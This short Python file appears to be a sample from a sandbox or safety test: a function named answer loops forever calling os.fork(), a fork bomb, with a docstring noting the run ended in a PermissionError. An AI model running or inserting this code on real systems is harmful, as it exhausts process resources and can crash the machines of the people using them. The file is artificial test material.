"""Starts processes without end.

Outcome: raised PermissionError
"""

import os


def answer(x):
    while True:
        os.fork()
